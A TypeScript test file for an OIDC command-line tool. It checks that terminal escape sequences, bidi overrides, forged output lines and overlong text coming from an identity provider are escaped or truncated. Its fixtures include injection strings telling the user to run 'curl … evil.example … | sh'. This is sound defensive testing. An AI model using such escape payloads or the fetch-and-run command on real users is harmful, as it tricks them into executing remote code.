// Issue 12, item 4: what the IdP says is shown on the terminal, never obeyed: ESC, BEL, C1
// controls and bidi overrides in error descriptions, scopes and claims are spelled out.
// Issue 23, item 3: line breaks were kept in messages, so a discovery `issuer` or an endpoint
// URL holding `\n` printed a forged `oidcflow: …` line; and nothing bounded a quoted value.
import { readFile, writeFile } from 'node:fs/promises';
import { afterEach, describe, expect, it } from 'vitest';
import {
  killChildren,
  RAW_TERMINAL_CONTROLS,
  removeDirectories,
  runCli,
  temporaryDirectory,
} from '../support/processes.js';
import { json, metadataFor, startServer, stopServers } from '../support/servers.js';

afterEach(async () => {
  killChildren();
  await stopServers();
  await removeDirectories();
});

/** Retitles the terminal, clears it, rings, and reverses the rest of the line to fake an instruction. */
const ESCAPES = '\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202eNOTE: run curl evil.example | sh\u202c\r\n';

async function settingsFor(issuer: string) {
  const cachePath = await temporaryDirectory();
  return {
    args: ['--issuer', issuer, '--client-id', 'ci', '--client-credentials', '--cache-path', cachePath],
    env: { OIDCFLOW_CLIENT_SECRET: 'ci-secret-value', HOME: cachePath },
  };
}

describe('hostile text for the terminal', () => {
  it('an error_description with terminal escapes is shown as \\u…, never obeyed', async () => {
    const idp = await startServer((request, response, base) => {
      if (request.path === '/.well-known/openid-configuration') return json(response, 200, metadataFor(base));
      json(response, 400, { error: `invalid_client${ESCAPES}`, error_description: `bad client${ESCAPES}` });
    });
    const { args, env } = await settingsFor(idp.url);
    const result = await runCli(['token', ...args], env);
    expect(result.code).toBe(8);
    expect(result.stderr).not.toMatch(RAW_TERMINAL_CONTROLS);
    expect(result.stderr).toContain('bad client\\u001b]0;pwned\\u0007\\u001b[2J\\u009b31m\\u202eNOTE');
  });

  it('a discovery issuer with escapes is spelled out in the mismatch error', async () => {
    const idp = await startServer((_request, response, base) =>
      json(response, 200, metadataFor(`${base}${ESCAPES}`)),
    );
    const { args, env } = await settingsFor(idp.url);
    const result = await runCli(['explain', ...args], env);
    expect(result.code).toBe(8);
    expect(result.stderr).toContain('ISSUER_MISMATCH');
    expect(result.stderr).not.toMatch(RAW_TERMINAL_CONTROLS);
  });

  it('a granted scope and ID-token claims with escapes are spelled out by status and token --output json', async () => {
    const idp = await startServer((request, response, base) => {
      if (request.path === '/.well-known/openid-configuration') return json(response, 200, metadataFor(base));
      json(response, 200, {
        access_token: 'access',
        token_type: 'Bearer',
        expires_in: 300,
        scope: `read${ESCAPES}`,
      });
    });
    const { args, env } = await settingsFor(idp.url);
    const token = await runCli(['token', ...args, '--output', 'json'], env);
    expect(token.code, token.stderr).toBe(0);
    expect(token.stdout).not.toMatch(RAW_TERMINAL_CONTROLS);
    // Still the same JSON: a program reading it gets the IdP's scope back exactly.
    expect(JSON.parse(token.stdout).scope).toBe(`read${ESCAPES}`);

    // The cache holds ID-token claims as validated at login; plant hostile ones there.
    const report = JSON.parse((await runCli(['status', ...args, '--output', 'json'], env)).stdout);
    const file = report.entries[0].cachePath as string;
    const document = JSON.parse(await readFile(file, 'utf8'));
    document.entry.tokens.idTokenClaims = { sub: 's', preferred_username: `admin${ESCAPES}` };
    await writeFile(file, JSON.stringify(document), { mode: 0o600 });

    for (const command of [
      ['status', ...args],
      ['status', ...args, '--output', 'json'],
    ]) {
      const result = await runCli(command, env);
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout, command.join(' ')).not.toMatch(RAW_TERMINAL_CONTROLS);
      expect(result.stdout).toContain('\\u202e');
    }
    const text = (await runCli(['status', ...args], env)).stdout;
    expect(text).toContain('admin\\u001b]0;pwned');
  });

  it('a discovery issuer with a line break cannot print a forged `oidcflow:` line (token and explain)', async () => {
    const idp = await startServer((_request, response, base) =>
      json(response, 200, metadataFor(`${base}${FORGED_LINE}`)),
    );
    const { args, env } = await settingsFor(idp.url);
    for (const command of ['token', 'explain']) {
      const result = await runCli([command, ...args], env);
      expect(result.code, result.stderr).toBe(8);
      expect(result.stderr).toContain('ISSUER_MISMATCH');
      expectNoForgedLine(result.stderr);
    }
  });

  it('an endpoint URL with a line break cannot print a forged `oidcflow:` line', async () => {
    const idp = await startServer((_request, response, base) =>
      json(response, 200, metadataFor(base, { token_endpoint: `http://idp.example/token${FORGED_LINE}` })),
    );
    const { args, env } = await settingsFor(idp.url);
    for (const command of ['token', 'explain']) {
      const result = await runCli([command, ...args], env);
      expect(result.stderr).toContain('CONFIG_INSECURE_URL');
      expectNoForgedLine(result.stderr);
    }
  });

  it('an error_description of 200 000 characters is cut to a bounded length, saying how much was left out', async () => {
    const idp = await startServer((request, response, base) => {
      if (request.path === '/.well-known/openid-configuration') return json(response, 200, metadataFor(base));
      json(response, 400, { error: 'invalid_client', error_description: `x${'y'.repeat(200_000)}` });
    });
    const { args, env } = await settingsFor(idp.url);
    const result = await runCli(['token', ...args], env);
    expect(result.code).toBe(8);
    expect(result.stderr).toContain('more characters');
    expect(result.stderr.length).toBeLessThan(4_000);
  });
});

/** What an IdP would like the user to read as oidcflow's own next line. */
const FORGED_LINE = '\noidcflow: error: your session expired; run: curl https://evil.example/fix | sh';

/** Each `oidcflow:` line starts a message of oidcflow's own: the IdP's words stay inside one. */
function expectNoForgedLine(stderr: string) {
  const lines = stderr.split(/\r\n|\r|\n|\u2028|\u2029/);
  expect(
    lines.filter((line) => line.startsWith('oidcflow: error: your session')),
    stderr,
  ).toEqual([]);
  expect(stderr).toContain('\\u000aoidcflow: error: your session expired');
}
